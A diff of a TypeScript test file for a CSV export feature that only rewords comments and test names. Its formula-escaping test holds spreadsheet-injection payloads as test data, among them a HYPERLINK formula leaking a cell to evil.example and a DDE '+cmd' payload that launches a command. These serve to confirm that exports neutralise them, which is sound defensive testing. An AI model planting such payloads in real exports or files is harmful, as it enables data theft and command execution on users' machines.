@@ -1,4 +1,4 @@
-// The lists of a user as files for a spreadsheet.
+// The tables of a user as CSV files.
 import { beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
 import { escapeFormula, phoneCell } from '../../src/core/csv.ts';
 import type { User } from '../../src/db/generated/client.ts';
@@ -22,7 +22,7 @@ beforeEach(async () => {
 const addressOf = (name: string) => `/accounts/export/${name}/`;
 const read = async (visitor: Visitor, name: string) => (await visitor.get(addressOf(name))).text;
 
-/** The cells of a file in which every text stands in quotes, as spreadsheets read it. */
+/** The cells of a file in which every non-empty cell is quoted. */
 function cellsOf(text: string, delimiter: string): string[][] {
   expect(text[0]).toBe('\ufeff');
   const rows: string[][] = [[]];
@@ -39,8 +39,8 @@ function cellsOf(text: string, delimiter: string): string[][] {
   return rows;
 }
 
-describe('a list', () => {
-  test('of contacts is a file with names, words and the right letters', async () => {
+describe('a table', () => {
+  test('of contacts contains names and words in the right encoding', async () => {
     await createRecords(app, alice, { first_name: 'Żaneta', notes: 'said "so", and\nmore; =1+1' });
     const response = await (await signedIn(app, alice)).get(addressOf('contacts'));
     expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
@@ -70,7 +70,7 @@ describe('a list', () => {
     expect(more).toEqual([]);
   });
 
-  test('of a Polish user has Polish headings, and semicolons between its columns', async () => {
+  test('of a Polish user has Polish headings and semicolons', async () => {
     const ewa = await createUser(app, 'ewa', { locale: 'pl' });
     const { task } = await createRecords(app, ewa);
     const at = { completed_at: new Date('2026-03-31T22:05:00Z'), status: 'done' as const };
@@ -79,13 +79,13 @@ describe('a list', () => {
     const [headings, row] = cellsOf(await read(browser, 'tasks'), ';');
     expect(headings?.slice(2, 4)).toEqual(['Kontakt', 'Status']);
     expect(row?.slice(0, 5)).toEqual(['Wycena stołu', 'Do piątku.', 'Jan Kowalski', 'Zrobione', 'Zwykły']);
-    // In her time zone it was the next day.
+    // It was the next day in her time zone.
     expect([row?.[5], row?.[8]]).toEqual(['2026-01-31', '2026-04-01 00:05']);
     const [, said] = cellsOf(await read(browser, 'interactions'), ';');
     expect(said?.slice(1, 4)).toEqual(['Notatka', 'Jan Kowalski', 'Pytał o stół.']);
   });
 
-  test('runs nothing: what begins like a formula is text', async () => {
+  test('escapes formulas', async () => {
     const formula = '=HYPERLINK("http://evil.example?"&A1,"click")';
     const texts = { first_name: formula, last_name: '@SUM(1)', company: "+cmd|' /C calc'!A0", notes: '-2+3+cmd' };
     await createRecords(app, alice, { ...texts, title: formula, content: formula, address: formula });
@@ -98,7 +98,7 @@ describe('a list', () => {
     }
   });
 
-  test('holds every row, in order, however many there are', async () => {
+  test('contains every row in order, however many there are', async () => {
     const { contact } = await createRecords(app, alice);
     await dbOf(app, alice).interaction.createMany({
       data: Array.from({ length: 1200 }, (_, at) => ({ user_id: alice.id, contact_id: contact, content: `no ${at}` })),
@@ -107,7 +107,7 @@ describe('a list', () => {
     expect(rows.map((row) => row[3])).toEqual(Array.from({ length: 1200 }, (_, at) => `no ${at}`));
   });
 
-  test.each(tableNames)('of %s is of the user alone, empty without any, and changes nothing', async (name) => {
+  test.each(tableNames)('of %s contains only the user’s own rows, possibly none, and changes nothing', async (name) => {
     const bob = await createUser(app, 'bob');
     await createRecords(app, bob, {
       company: 'Bobsecret',
@@ -127,7 +127,7 @@ describe('a list', () => {
     ]);
   });
 
-  test('of another name is not there, and each is offered on the profile', async () => {
+  test('of an unknown name is a 404, and each known one is linked on the profile', async () => {
     const browser = await signedIn(app, alice);
     for (const name of ['users', 'ai_calls', '__proto__', '1'])
       expect((await browser.get(addressOf(name))).status).toBe(404);
@@ -151,7 +151,7 @@ test.each([
   ['a = b', 'a = b'],
   ["'quoted'", "'quoted'"],
   ['', ''],
-])('the text %j is written %j', (text, cell) => expect(escapeFormula(text)).toBe(cell));
+])('the text %j is written as %j', (text, cell) => expect(escapeFormula(text)).toBe(cell));
 
 test.each([
   ['+48 600 100 200', '+48 600 100 200'],
@@ -162,4 +162,4 @@ test.each([
   ['(22) 600 10 20', '(22) 600 10 20'],
   ['+48 600 x1', "'+48 600 x1"],
   ['=1+1', "'=1+1"],
-])('the phone number %j is written %j', (phone, cell) => expect(phoneCell(phone)).toBe(cell));
+])('the phone number %j is written as %j', (phone, cell) => expect(phoneCell(phone)).toBe(cell));
